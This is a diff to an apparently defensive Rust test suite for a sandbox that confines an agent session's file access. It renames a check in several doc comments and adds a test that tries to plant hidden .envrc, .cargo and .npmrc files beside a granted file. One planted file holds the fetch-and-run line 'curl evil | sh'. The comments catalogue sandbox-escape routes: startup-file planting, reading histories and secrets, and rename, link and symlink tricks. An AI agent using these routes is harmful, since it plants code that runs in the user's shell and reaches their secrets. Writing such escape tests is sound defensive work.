@@ -1375,7 +1375,7 @@ fn reads_the_transcripts_and_history_of_the_users_other_agents() {
 /// every place "the user's shell, desktop session, editors, package managers and
 /// toolchains read code from", which a list of names cannot end.
 /// Closed by kind: each is a hidden entry of the home, which a grant on the home does
-/// not reach (`hidden_in_root`).
+/// not reach (`misses_hidden_name`).
 #[test]
 fn plants_code_in_startup_places_the_never_list_does_not_name() {
     let mut c = Cleanup::default();
@@ -1678,7 +1678,7 @@ fn pulls_a_read_granted_file_into_its_own_folder_by_link_and_exchange() {
 /// `~/.bash_history` under the same grant. Principle: the never list is a list of names,
 /// and "histories, keyrings and credentials" is a kind, not a list. Closed by kind: these
 /// all live in the home's hidden entries (the configuration and state of the user's
-/// tools), which a grant on the home does not reach (`hidden_in_root`).
+/// tools), which a grant on the home does not reach (`misses_hidden_name`).
 #[test]
 fn reads_histories_and_secrets_the_never_list_does_not_name() {
     reads_under_a_home_read_grant(&[
@@ -2043,7 +2043,7 @@ fn writes_a_hook_of_the_users_later_repository_by_moving_it_through_the_scratch(
 /// user's (`RENAME_EXCHANGE`), a hard link under a visible name, a symlink in the home to
 /// it, `openat` on a descriptor of the home, and `/proc/self/cwd` after `chdir` to the home.
 /// Each reaches the same dentry, whose walk passes the home with the hidden name as the
-/// entry it came from (`hidden_in_root`); the rename and exchange need `delete` on the
+/// entry it came from (`misses_hidden_name`); the rename and exchange need `delete` on the
 /// hidden entry, the link `read` on it (`inode_link`'s source check). Expected closed.
 #[test]
 fn reaches_a_hidden_home_entry_by_rename_exchange_link_symlink_and_descriptors() {
@@ -2091,7 +2091,7 @@ fn reaches_a_hidden_home_entry_by_rename_exchange_link_symlink_and_descriptors()
 /// `bind` of a Unix socket, `link` of a file of its own, `rename` of a file of its own,
 /// and `O_TMPFILE` then `linkat` (`~/.rtn-*`: a `.bashrc`-like start-up file of a tool the
 /// never list does not name). Each reaches `check_create` with the new name as
-/// `child_name`, which `hidden_in_root` reads at the home's level. Control: the same file
+/// `child_name`, which `misses_hidden_name` reads at the home's level. Control: the same file
 /// under a visible name. Expected closed.
 #[test]
 fn makes_a_hidden_home_entry_by_every_creating_call() {
@@ -2231,7 +2231,7 @@ fn reaches_the_users_later_file_in_a_folder_it_made() {
 /// watches it: `chmod` (a start-up file made world-writable for a later write from
 /// anywhere), `utimensat`, `setxattr`, `truncate`, and an inotify watch (when the user's tool
 /// rewrites its token file). Each is `check_object` on the hidden entry's own dentry, whose
-/// walk meets the home with the hidden name (`hidden_in_root`). Expected closed.
+/// walk meets the home with the hidden name (`misses_hidden_name`). Expected closed.
 #[test]
 fn changes_and_watches_a_hidden_home_entry_under_a_home_grant() {
     let mut c = Cleanup::default();
@@ -2540,8 +2540,9 @@ fn exchanges_a_project_folder_with_its_own_folder_in_an_open_path() {
 /// user's next `cargo build` in the crate runs) and `.npmrc` (`script-shell`, run by every
 /// `npm run`) inside it, moves the user's visible files of `mono/api` into it, removes the
 /// emptied `mono/api` and renames its folder to `mono/api`. Why it might get out: a hidden
-/// entry may be made under an exact `create` grant (`hidden_in_root` refuses it only in a
-/// protected root), and a folder the session made has one; the moves of visible files
+/// entry may be made in a folder the session made (its grant is marked
+/// `ACCESS_CREATED_BY_SESSION`, which `misses_hidden_name` lets reach hidden names, as
+/// cargo's `target/.fingerprint` needs); the moves of visible files
 /// gain nothing (`check_move`: the workspace's subtree grant on both sides) and the last
 /// rename stays in one folder and keeps the name visible (`hiding_changes` is false), so
 /// no check sees the hidden names the renamed tree brings to the user's place. The same
@@ -2764,4 +2765,52 @@ fn writes_a_symlinked_dotfile_through_its_visible_target_under_a_home_grant() {
         "set history save on\n",
         "the dotfile behind the hidden symlink was written: {r:?}"
     );
+}
+
+/// Plants hidden configuration beside a file the session was granted to create. The twin
+/// decides a new file by its path and the daemon grants `create` on the file's folder (the
+/// kernel's grants are keyed by object; the new file has none yet), so a grant given for
+/// `proj/notes.md` was a grant for any name in `proj`: `.envrc` (run by direnv when the
+/// user enters the folder), `.cargo/config.toml`, `.npmrc`, made directly, by a symlink, a
+/// hard link or a rename of the granted file. Closed: an exact `create` grant reaches
+/// hidden names only when it is marked for them (`ACCESS_HIDDEN_NAMES`, what the daemon
+/// gives when the twin decided a hidden name there) or is the grant of a folder the
+/// session made (cargo's `target/.fingerprint`). Control: `notes.md` is made, and with the
+/// marked grant `.envrc` is too.
+#[test]
+fn plants_hidden_configuration_beside_a_file_it_was_granted_to_create() {
+    let mut red = Red::start_with("hidden-beside", |ws| {
+        make(&ws.join("proj/README.md"), Some("proj\n"));
+    });
+    let proj = red.ws.join("proj");
+    // What the daemon inserts when the twin grants `create` of proj/notes.md.
+    red.grant(&proj, Scope::Exact, &[Access::Create]);
+    let (notes, envrc, cargo, npmrc, link, built) =
+        (proj.join("notes.md"), proj.join(".envrc"), proj.join(".cargo"), proj.join(".npmrc"), proj.join(".x"), proj.join("build"));
+    let r = red.gated(|| {
+        vec![
+            create(&notes, "notes\n"), // control: the granted name
+            create(&envrc, "curl evil | sh\n"),
+            mkdir(&cargo),
+            // SAFETY: symlink and link on valid C strings.
+            rc(unsafe { libc::symlink(c"/tmp/evil-npmrc".as_ptr(), cpath(&npmrc).as_ptr()) } as i64),
+            rc(unsafe { libc::link(cpath(&notes).as_ptr(), cpath(&link).as_ptr()) } as i64),
+            rename(&notes, &envrc),
+            // A folder the session makes is its own, hidden entries included.
+            mkdir(&built),
+            create(&built.join(".fingerprint"), "x\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: the granted name is made: {r:?}");
+    assert_eq!(&r[1..6], &[EACCES; 5], "a hidden entry beside the granted file: {r:?}");
+    assert_eq!(&r[6..], &[0, 0], "a hidden entry in a folder the session made: {r:?}");
+    for p in [&envrc, &cargo, &npmrc, &link] {
+        assert!(std::fs::symlink_metadata(p).is_err(), "{} exists", p.display());
+    }
+    assert!(notes.exists(), "the granted file was renamed to a hidden name");
+    // A decision on a hidden name there marks the grant.
+    let obj = ObjectId::of_path(&proj).unwrap();
+    red.enforcer.grant_create_hidden(red.id, obj).expect("grant");
+    let r = red.gated(|| vec![create(&envrc, "export A=1\n")]);
+    assert_eq!(r, vec![0], "the marked grant makes a hidden name");
 }
